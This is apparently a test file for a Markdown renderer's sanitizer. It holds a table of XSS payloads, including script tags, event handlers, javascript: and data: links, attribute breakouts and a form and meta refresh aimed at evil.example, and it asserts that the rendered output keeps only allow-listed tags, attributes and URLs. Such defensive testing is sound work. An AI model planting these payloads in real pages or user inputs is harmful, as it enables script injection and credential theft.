import { highlightCode } from './highlightCode.ts'
import { renderMarkdown } from './renderMarkdown.ts'

const attacks = {
  script: '<script>window.hit = 1</script>',
  'script in a block': 'Text\n\n<script>\nwindow.hit = 1\n</script>\n\nText',
  'nested script tags': '<scr<script>ipt>window.hit = 1</scr</script>ipt>',
  'event handler': '<img src=x onerror="window.hit = 1">',
  'event handler without quotes': '<svg/onload=window.hit=1>',
  'javascript: link': '[x](javascript:window.hit=1)',
  'javascript: link with character references': '[x](&#x6A;ava&#x0A;script:window.hit=1)',
  'javascript: link with a tab': '[x](<java\tscript:window.hit=1>)',
  'javascript: link by reference': '[x][y]\n\n[y]: JAVASCRIPT:window.hit=1',
  'javascript: autolink': '<javascript:window.hit=1>',
  'javascript: image': '![x](javascript:window.hit=1)',
  'vbscript: link': '[x](vbscript:msgbox)',
  'data: link': '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'data: image': '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  'file: link': '[x](file:///etc/passwd)',
  'attribute breakout in a title': '[x](/y "\\" onmouseover=\\"window.hit=1")',
  'attribute breakout in alt': '![x\\" onerror=\\"window.hit=1](/y.png)',
  'attribute breakout in an address': '[x](/y"onmouseover="window.hit=1)',
  'attribute breakout in a language': '```"><img/src=x/onerror=window.hit=1>\ncode\n```',
  'attribute breakout in a footnote':
    'a[^"><img/src=x/onerror=window.hit=1>]\n\n[^"><img/src=x/onerror=window.hit=1>]: b',
  'clobbered id': '## <a id="root" name="boot">root</a>',
  'style element': '<style>body { display: none }</style>',
  'style attribute': '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
  'class attribute': '<div class="modal" style="z-index:9">x</div>',
  iframe: '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
  form: '<form action="https://evil.example"><input name=password><button formaction="javascript:window.hit=1">x</button></form>',
  'meta and base':
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  'broken nesting': '<b><i></b></i></div></main></body><table><tr><script>window.hit=1</script>',
  'broken Markdown nesting': '**a _b** c_ [d **e](/f) g** `h ~~i` j~~',
  'comment and CDATA': '<!-- --!><img src=x onerror=window.hit=1> --> <![CDATA[<script>window.hit=1</script>]]>',
  'math and svg':
    '<math><mtext><table><mglyph><style><img src onerror=window.hit=1></style></mglyph></table></mtext></math>',
  'script in noscript': '<noscript><p title="</noscript><img src=x onerror=window.hit=1>"></noscript>',
  'end tag of the surrounding element': '</div></div><h1>Fake page</h1>',
  'null and control characters': 'a\u0000b\u0007 [x](java\u0000script:window.hit=1) \ud800',
  'script as code': '```html\n<script>window.hit = 1</script>\n```',
}

const allowedTags =
  'a blockquote br code del div em h2 h3 h4 h5 h6 hr img input li ol p pre section span strong sup table tbody td th thead tr ul'
const allowedAttributes =
  /^(align|alt|aria-\w+|checked|class|data-footnote[\w-]*|decoding|disabled|height|href|id|loading|rel|role|src|start|tabindex|target|title|type|width)$/
const safeUrl = /^(https?:\/\/|mailto:|tel:|\/|#)|^[^:]*$/

describe.each(Object.entries(attacks))('Markdown with %s', (_name, attack) => {
  it.each([
    ['a paragraph', attack],
    ['a quote in a list', `- > ${attack}`],
    ['a table', `| ${attack} |\n|---|\n| ${attack} |`],
    ['a heading', `## ${attack}`],
  ])('renders no active content in %s [POST-14]', (_block, markdown) => {
    const body = document.createElement('div')
    document.body.append(body)
    body.innerHTML = renderMarkdown(markdown, highlightCode).html
    const elements = [...body.querySelectorAll('*')]
    expect(elements.map(({ localName }) => localName).filter((tag) => !allowedTags.split(' ').includes(tag))).toEqual(
      [],
    )
    const attributes = elements.flatMap((element) => [...element.attributes])
    expect(attributes.map(({ name }) => name).filter((name) => !allowedAttributes.test(name))).toEqual([])
    const urls = attributes.filter(({ name }) => name === 'href' || name === 'src')
    expect(urls.map(({ value }) => value).filter((value) => !safeUrl.test(value))).toEqual([])
    expect((window as { hit?: number }).hit).toBeUndefined()
    body.remove()
  })
})

describe('Markdown that is costly to parse', () => {
  const maxLength = 100_000
  const repeatToMaxLength = (text: string) => text.repeat(maxLength / text.length)

  it.each([
    '*a_',
    '[',
    '![',
    '[a](',
    '**a ',
    '> ',
    '>',
    '- ',
    '`',
    '<div>',
    '<!--',
    '&',
    '<a:',
    'www.',
    'a@',
    '|a',
    '[^a]',
    '\\',
    '#',
    '~',
    '_',
  ])(
    'renders repeated %s within seconds',
    (text) => {
      const startedAt = performance.now()
      expect(renderMarkdown(repeatToMaxLength(text)).html).not.toBe('')
      expect(performance.now() - startedAt).toBeLessThan(8_000)
    },
    20_000,
  )
})
